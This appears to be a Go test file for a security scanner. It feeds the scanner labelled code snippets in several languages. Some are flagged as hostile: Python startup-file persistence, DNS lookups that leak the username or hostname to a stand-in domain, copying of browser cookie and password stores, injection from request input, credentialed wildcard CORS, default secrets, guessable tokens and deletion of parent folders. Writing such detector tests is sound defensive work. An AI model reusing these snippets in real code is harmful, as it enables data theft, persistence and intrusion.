package code_test

import (
	"slices"
	"testing"

	"fettle/internal/policy/code"
)

// TestStartup are files that Python carries out at every start, and others of the same ending.
func TestStartup(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import site\nfrom pathlib import Path\nLINE = 'import os, sys; import boot\\n'\nfolder = Path(site.getusersitepackages())\nstarter = folder / 'a.pth'\nstarter.write_text(LINE)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'sitecustomize.py').write_text(CODE)", true},
		{"import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w') as f:\n    f.write(line)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'usercustomize.py').open('a').write(CODE)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'a.pth').write_text('/srv/lib\\n')", false},
		{"import torch\ndef save(model):\n    torch.save(model, 'model.pth')", false},
		{"def save(blob):\n    with open('model.pth', 'wb') as f:\n        f.write(blob)", false},
		{"from pathlib import Path\ndef load(folder: Path):\n    return (folder / 'a.pth').read_text()", false},
	})
}

// TestWhispers are names that are looked up to tell something, and those that are looked up for their address.
func TestWhispers(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import binascii, getpass, socket\ndef label(x):\n    return binascii.hexlify(x.encode()).decode()\ndef go():\n    socket.gethostbyname('.'.join([label(getpass.getuser()), 'v.updates-example.net']))", true},
		{"import platform, socket\nsocket.getaddrinfo(f'{platform.node()}.a.example.net', 80)", true},
		{"import socket\nsocket.gethostbyname(socket.gethostname())", false},
		{"import os, socket\nsocket.getaddrinfo(os.environ['DB_HOST'], 5432)", false},
		{"import os, socket\nsocket.gethostbyname(f\"{os.environ['SERVICE']}.internal.example.com\")", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const dns = require('dns'), os = require('os')\ndns.lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.q.example.net`, () => {})", true},
		{"import { resolve4 } from 'node:dns/promises'\nawait resolve4(`${service}.internal.example.com`)", false},
		{"const dns = require('dns')\ndns.lookup('example.com', done)", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"encoding/hex\"; \"net\"; \"os\")\nfunc f() { h, _ := os.Hostname(); net.LookupHost(hex.EncodeToString([]byte(h)) + \".t.example.net\") }", true},
		{"import \"net\"\nfunc f(name string) { net.LookupHost(name + \".svc.example.com\") }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void f() { InetAddress.getByName(System.getProperty(\"user.name\") + \".t.example.net\"); }", true},
		{"void f(String host) { InetAddress.getByName(host); }", false},
	})
}

// TestProfiles are what browsers keep of their users, and files of the project called alike.
func TestProfiles(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import shutil\nfrom pathlib import Path\nPROFILE = Path.home() / '.config/google-chrome/Default'\nshutil.copy(PROFILE / 'Cookies', '/tmp/c')", true},
		{"import os, sqlite3\nsqlite3.connect(os.path.expanduser('~/.mozilla/firefox/a.default/cookies.sqlite'))", true},
		{"import sqlite3\nsqlite3.connect('/var/lib/shop/shop.db')", false},
		{"import shutil\nshutil.copy('docs/Cookies', 'out/Cookies')", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const fs = require('fs'), os = require('os'), path = require('path')\nfs.copyFileSync(path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data'), '/tmp/l')", true},
		{"const fs = require('fs')\nfs.copyFileSync('src/chromium/readme.md', 'out/readme.md')", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"os\"; \"path/filepath\")\nfunc f() { h, _ := os.UserHomeDir(); os.ReadFile(filepath.Join(h, \".mozilla/firefox/x/logins.json\")) }", true},
		{"import \"os\"\nfunc f() { os.ReadFile(\"testdata/cookies.txt\") }", false},
	})
}

// TestRequestsText is a request's own text as a part of a statement, or a formula.
func TestRequestsText(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import { Sequelize } from 'sequelize'\nconst order = (q) => [[Sequelize.literal(q.sort ?? 'name'), 'ASC']]\nexport const list = async (req, res) => res.json(await P.findAll({ order: order(req.query) }))", true},
		{"import knex from 'knex'\nexport const list = async (req, res) => res.json(await knex.raw(req.query.sort))", true},
		{"export const ask = async (req, res) => res.json(await db.query(req.body.sql))", true},
		{"import { Sequelize } from 'sequelize'\nexport const list = async (req, res) => { const sort = req.query.sort; if (!SORTS.includes(sort)) throw new Error('sort'); res.json(await P.findAll({ order: Sequelize.literal(sort) })) }", false},
		{"import { Sequelize } from 'sequelize'\nexport const now = () => Sequelize.literal('CURRENT_TIMESTAMP')", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"import pandas as pd\nfrom flask import request\ndef derive(f):\n    return SALES.eval(f, engine='python')\n@app.get('/x')\ndef x():\n    return derive(request.args['f']).to_json()", true},
		{"import pandas as pd\nfrom flask import request\n@app.get('/x')\ndef x():\n    return SALES.query(request.args['q']).to_json()", true},
		{"from flask import request\n@app.post('/q')\ndef q():\n    cursor.execute(request.json['sql'])", true},
		{"import pandas as pd\n@app.get('/x')\ndef x():\n    return SALES.query('total > 10').to_json()", false},
		{"from flask import request\n@app.get('/x')\ndef x():\n    return index.query(request.args['q'])", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"net/url\"\nfunc director(r *http.Request) { to, err := url.Parse(r.URL.Query().Get(\"to\")); if err != nil { return }; r.URL = to }", true},
		{"func director(r *http.Request) { r.URL.Host = r.Header.Get(\"X-To\") }", true},
		{"func director(r *http.Request) { r.URL.Scheme = \"http\"; r.URL.Host = backend.Host }", false},
		{"func director(r *http.Request) { to := r.Header.Get(\"X-To\"); if !allowed[to] { return }; r.URL.Host = to }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"Object f(HttpServletRequest request) { return factory.createValueExpression(ctx, request.getParameter(\"e\"), Object.class).getValue(ctx); }", true},
		{"Object f() { return factory.createValueExpression(ctx, \"#{user.name}\", Object.class).getValue(ctx); }", false},
	})
}

// TestSessions are pages that may ask with cookies, whoever they are, secrets that everybody knows, and tokens that can be guessed.
func TestSessions(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import cors from 'cors'\napp.use(cors({ origin: (origin, done) => done(null, origin), credentials: true }))", true},
		{"import cors from 'cors'\napp.use(cors({ origin: true, credentials: true }))", true},
		{"app.enableCors({ origin: (o, cb) => { cb(null, true) }, credentials: true })", true},
		{"app.use(session({ secret: process.env.SESSION_SECRET || 'changeme' }))", true},
		{"import jwt from 'jsonwebtoken'\nconst KEY = process.env.JWT_KEY ?? 'dev-secret'\nexport const issue = (u) => jwt.sign({ sub: u.id }, KEY)", true},
		{"import cors from 'cors'\napp.use(cors({ origin: ['https://app.example.com'], credentials: true }))", false},
		{"import cors from 'cors'\napp.use(cors({ origin: true }))", false},
		{"import cors from 'cors'\napp.use(cors({ origin: (o, done) => done(ALLOWED.has(o) ? null : new Error('no'), o), credentials: true }))", false},
		{"app.use(session({ secret: process.env.SESSION_SECRET }))", false},
		{"const port = process.env.PORT || '3000'", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"app.add_middleware(CORSMiddleware, allow_origins=['*'], allow_credentials=True)", true},
		{"import os\napp.config['SECRET_KEY'] = os.environ.get('SECRET_KEY', 'changeme')", true},
		{"import os\napp.secret_key = os.getenv('SECRET_KEY') or 'dev-secret'", true},
		{"import random, time\ndef code(n=20):\n    rng = random.Random(int(time.time()))\n    return ''.join(rng.choice('abc') for _ in range(n))\ndef reset(u):\n    Reset.create(user=u, token=code())", true},
		{"app.add_middleware(CORSMiddleware, allow_origins=['*'])", false},
		{"app.add_middleware(CORSMiddleware, allow_origins=['https://app.example.com'], allow_credentials=True)", false},
		{"import os\napp.config['SECRET_KEY'] = os.environ['SECRET_KEY']", false},
		{"import os\nLEVEL = os.environ.get('LEVEL', 'info')", false},
		{"import random\ndef sample(rows, seed):\n    return random.Random(seed).sample(rows, 5)", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOriginPatterns(\"*\").allowCredentials(true); }", true},
		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOrigins(\"https://app.example.com\").allowCredentials(true); }", false},
	})
}

// TestRemoved are folders that are removed with all in them: those that were made here, or have a name of the source, are a program's own.
func TestRemoved(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import shutil\nfrom pathlib import Path\ndef wipe(root: Path):\n    shutil.rmtree(root)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean():\n    for name in ('build', '..'):\n        shutil.rmtree(ROOT / name)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean(names):\n    for name in names:\n        shutil.rmtree(ROOT / name)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\nLEFT = ('build', '.pytest_cache')\ndef clean():\n    for name in LEFT:\n        path = ROOT / name\n        shutil.rmtree(path)", false},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean():\n    shutil.rmtree(ROOT / 'build')", false},
		{"import shutil, tempfile\nfrom pathlib import Path\nclass A:\n    def setUp(self):\n        self.folder = Path(tempfile.mkdtemp(prefix='a-'))\n        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)", false},
		{"import shutil\nfrom pathlib import Path\nclass A:\n    def setUp(self):\n        self.folder = Path(read())\n        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)", true},
	})
}

// TestScriptsFolder holds that a script of the shell is judged from where it stands.
func TestScriptsFolder(t *testing.T) {
	const clean = "#!/bin/bash\nset -eu\nroot=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")/..\" && pwd)\nrm -rf \"${root:?}/build\"\n"
	for path, stopped := range map[string]bool{"scripts/clean.sh": false, "tools/ci/clean.sh": false, "clean.sh": true} {
		found, err := code.Find(t.Context(), path, []byte(clean))
		if err != nil {
			t.Fatal(err)
		}
		if got := slices.ContainsFunc(found, func(c code.Capability) bool { return c.Grade >= code.Review }); got != stopped {
			t.Errorf("%s: %v, want stopped %v", path, found, stopped)
		}
	}
}

// TestBesideReviews is what programs do as a matter of course where reviews look twice.
func TestBesideReviews(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import cors from \"cors\"\napp.use(cors({ origin: (origin, cb) => allowed(origin) ? cb(null, true) : cb(new Error(\"x\")), credentials: true }));", false},
		{"const merge = (a, b) => Object.assign({}, a, b);", false},
		{"export const save = async (req, res) => { const data = schema.parse(req.body); const u = await User.findOne({ id: 1 }); Object.assign(u, data); log.info(\"saved\", { id: u.id }); res.json(u); };", false},
		{"const cmp = (a, b) => a.digest(\"hex\") === b.digest(\"hex\");", false},
		{"const etag = crypto.createHash(\"sha1\").update(body).digest(\"hex\"); if (req.headers[\"if-none-match\"] === etag) res.sendStatus(304);", false},
		{"passwordInput.addEventListener(\"input\", (e) => { meter.value = score(e.target.value); });", false},
		{"const origWarn = console.warn; console.warn = (m) => { if (!/x/.test(m)) origWarn(m); };", false},
		{"window.onerror = function (m) { navigator.sendBeacon(\"https://errors.example.com\", m); };", false},
		{"if (process.env.NODE_ENV === \"production-1\") next();", false},
		{"const { spawn } = require(\"child_process\")\nconst args = [\"-i\", req.file.path, \"-vf\", `scale=${Number(req.query.w)}`]; spawn(\"ffmpeg\", args);", false},
		{"res.json({ env: process.env.NODE_ENV, v: process.env.npm_package_version });", false},
		{"const { spawn } = require(\"child_process\")\nconst child = spawn(\"node\", [\"x.js\"], { env: { ...process.env, A: \"1\" } });", false},
		{"jwt.sign({ sub: 1 }, process.env.JWT_SECRET);", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"import hashlib, logging, os\ndef etag_matches(request, body):\n    return request.headers.get(\"If-None-Match\") == hashlib.md5(body).hexdigest()", false},
		{"import hashlib, logging, os\ndef rate_limited(request):\n    return cache.get(request.META.get(\"HTTP_X_FORWARDED_FOR\")) == \"1\"", false},
		{"import hashlib, logging, os\ndef get_client_ip(request):\n    xff = request.META.get(\"HTTP_X_FORWARDED_FOR\")\n    return xff.split(\",\")[0] if xff else request.META[\"REMOTE_ADDR\"]", false},
		{"import hashlib, logging, os\nclass Form:\n    def __init__(self, **kw):\n        for k, v in kw.items():\n            setattr(self, k, v)", false},
		{"import hashlib, logging, os\ndef update(instance, validated_data):\n    for attr, value in validated_data.items():\n        setattr(instance, attr, value)", false},
		{"import hashlib, logging, os\ndef view(request):\n    form = F(request.POST)\n    if form.is_valid():\n        for k, v in form.cleaned_data.items():\n            setattr(request.user, k, v)\n    logging.info(\"user %s from %s\", request.user, request.headers.get(\"User-Agent\"))\n    if request.GET.get(\"format\") == \"json-api\":\n        return JsonResponse({\"debug\": os.environ.get(\"DEBUG\")})\n    if request.headers.get(\"Sec-Fetch-Mode\") == \"no-cors\":\n        return True", false},
		{"import hashlib, logging, os\ndef is_admin(user):\n    return user.role == \"super-admin-1\"\n", false},
	})
}

// TestReviewedMore is what a seventh set showed, and what is ordinary beside it.
func TestReviewedMore(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import zmq\ndef step(socket):\n    return socket.recv_pyobj()", true},
		{"import zmq\ndef step(socket):\n    return socket.recv_json()", false},
		{"import hashlib\ndef digest(text):\n    return hashlib.md5(text.encode()).hexdigest()\ndef check(account, password):\n    return account.hash == digest(password)", true},
		{"import hashlib\ndef digest(text):\n    return hashlib.md5(text.encode()).hexdigest()\ndef key(page):\n    return digest(page.url)", false},
		{"import logging\nlog = logging.getLogger(__name__)\ndef sign_in(user, password):\n    log.info('sign in of %s with %s', user, password)", true},
		{"import logging\nlog = logging.getLogger(__name__)\ndef sign_in(user, password):\n    log.info('the password of %s has %d letters', user, len(password))", false},
		{"def search(cur, column):\n    if column not in ('name', 'price'):\n        raise ValueError(column)\n    cur.execute(f'SELECT * FROM articles ORDER BY {column}')", false},
		{"def search(cur, column):\n    if column not in ('name', 'price'):\n        print(column)\n    cur.execute(f'SELECT * FROM articles ORDER BY {column}')", true},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"app.use((req, res, next) => { res.setHeader('Access-Control-Allow-Origin', req.headers.origin || '*'); res.setHeader('Access-Control-Allow-Credentials', 'true'); next(); });", true},
		{"app.use((req, res, next) => { if (ALLOWED.has(req.headers.origin)) { res.setHeader('Access-Control-Allow-Origin', req.headers.origin); res.setHeader('Access-Control-Allow-Credentials', 'true'); } next(); });", false},
		{"app.use((req, res, next) => { res.setHeader('Access-Control-Allow-Origin', 'https://shop.example.com'); res.setHeader('Access-Control-Allow-Credentials', 'true'); next(); });", false},
		{"app.post('/r', (req, res) => { const { password, email } = req.body; console.log('new', email, password); res.end(); });", true},
		{"const COLUMNS = new Set(['name', 'price']);\nexports.search = (pool, sort) => { if (!COLUMNS.has(sort)) { throw new RangeError(sort); } return pool.query(`SELECT * FROM a ORDER BY ${sort}`); };", false},
		{"const COLUMNS = new Set(['name', 'price']);\nexports.search = (pool, sort) => { if (!COLUMNS.has(sort)) { console.log(sort); } return pool.query(`SELECT * FROM a ORDER BY ${sort}`); };", true},
		{"import { rm } from 'node:fs/promises';\nimport { fileURLToPath } from 'node:url';\nconst dist = fileURLToPath(new URL('../dist/', import.meta.url));\nawait rm(dist, { recursive: true });", false},
		{"import { rm } from 'node:fs/promises';\nimport { fileURLToPath } from 'node:url';\nconst up = fileURLToPath(new URL('../../', import.meta.url));\nawait rm(up, { recursive: true });", true},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"fmt\"; \"math/rand\"; \"time\")\nvar source = rand.New(rand.NewSource(time.Now().Unix()))\nfunc newToken() string { return fmt.Sprintf(\"%016x\", source.Int63()) }", true},
		{"import \"math/rand\"\nvar source = rand.New(rand.NewSource(1))\nfunc roll() int64 { return source.Int63() % 6 }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception { heading(res.getWriter(), req.getParameter(\"q\")); }\nvoid heading(java.io.PrintWriter out, String q) { out.printf(\"<h1>%s</h1>\", q); }", true},
		{"void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception { heading(res.getWriter(), Encode.forHtml(req.getParameter(\"q\"))); }\nvoid heading(java.io.PrintWriter out, String q) { out.printf(\"<h1>%s</h1>\", q); }", false},
	})
}
